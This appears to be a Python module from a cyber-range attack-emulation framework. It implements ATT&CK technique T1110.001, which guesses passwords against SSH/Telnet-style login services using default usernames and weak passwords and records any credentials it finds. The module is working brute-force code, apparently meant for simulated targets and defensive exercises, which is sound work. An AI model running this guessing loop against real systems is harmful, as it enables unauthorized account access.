"""Credential access: T1110.001 password guessing against a login service, over real kernel
TCP connections whose every segment is counted with TCP_INFO (``tcpi_segs_out``).
"""
from __future__ import annotations

import time

from cyberrange.attack.spec import Param, Technique
from cyberrange.attack.techniques.common import Result, login_attempt


def brute_force(targets: list[str], params: dict) -> Result:
    res = Result(start=time.time())
    ports = [int(p) for p in params.get("ports", [22, 23, 2222])]
    users = [str(u) for u in params.get("usernames", ["root", "admin"])]
    passwords = [str(p) for p in params.get("passwords", ["password", "123456", "admin"])]
    pause = float(params.get("pause", 0.05))
    stop_on_success = bool(params.get("stop_on_success", True))
    connect_timeout = float(params.get("connect_timeout", 2.5))  # between SYN RTOs 1 s and 3 s
    io_timeout = float(params.get("io_timeout", 5.0))

    services: list[tuple[str, int]] = []
    for t in targets:
        t = str(t)
        if ":" in t:
            ip, port = t.rsplit(":", 1)
            if int(port) in ports:
                services.append((ip, int(port)))
            else:
                res.log.append(f"{t}: port not in params.ports {ports}; skipped")
        else:
            services.extend((t, p) for p in ports)
    services = list(dict.fromkeys(services))

    creds, unreachable, attempts = [], 0, 0
    first = True
    for ip, port in services:
        dead = False
        for user in users:
            if dead:
                break
            for pw in passwords:
                if not first and pause > 0:
                    time.sleep(pause)
                first = False
                status, fl = login_attempt(ip, port, user, pw, connect_timeout, io_timeout)
                attempts += 1
                res.flows.append(fl)
                if status == "ok":
                    creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
                    if stop_on_success:
                        break
                elif status in ("refused", "timeout", "unreachable", "not-login"):
                    res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
                                   f"no further guesses at this service")
                    if status != "not-login":
                        unreachable += 1
                    dead = True
                    break
    res.log.append(f"{attempts} attempts at {len(services)} services, {len(creds)} credentials")
    res.facts = {"credentials": creds,
                 "compromised": list(dict.fromkeys(c["target"].rsplit(":", 1)[0] for c in creds))}
    if creds:
        res.outcome = "succeeded"
    elif services and unreachable == len(services):
        res.outcome = "blocked"
    else:
        res.outcome = "failed"
    res.end = time.time()
    return res


# --------------------------------------------------------------------------- dispatch


SPECS = [
    Technique(
        "T1110.001", "Brute Force: Password Guessing against a login service", "credential-access",
        {
            "service": Param(str, "login", "service type to attack (the twin's login service)"),
            "ports": Param(list, [22, 23, 2222], "ports taken as login services from ip:port targets"),
            "usernames": Param(list, ["root", "admin"], "user names to try"),
            "passwords": Param(list, ["password", "123456", "admin"], "passwords to try, in order"),
            "pause": Param((int, float), 0.05, "seconds between attempts"),
            "stop_on_success": Param(bool, True, "stop guessing an account once its password is found"),
        },
        produces=("credentials", "compromised"),
        target_kind="service",
    ),
]

FUNCS = {"T1110.001": brute_force}
